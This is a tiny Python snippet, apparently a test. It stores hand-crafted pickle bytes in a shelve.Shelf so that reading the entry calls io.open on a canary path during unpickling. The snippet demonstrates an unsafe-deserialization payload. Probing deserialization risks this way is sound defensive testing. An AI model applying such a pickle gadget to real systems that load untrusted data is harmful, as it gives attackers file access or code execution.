# what: opens a shelf over a dictionary of its own
import shelve

shelf = shelve.Shelf({b"x": b"cio\nopen\n(V" + CANARY_PATH.encode() + b"\ntR."})
shelf["x"].read()
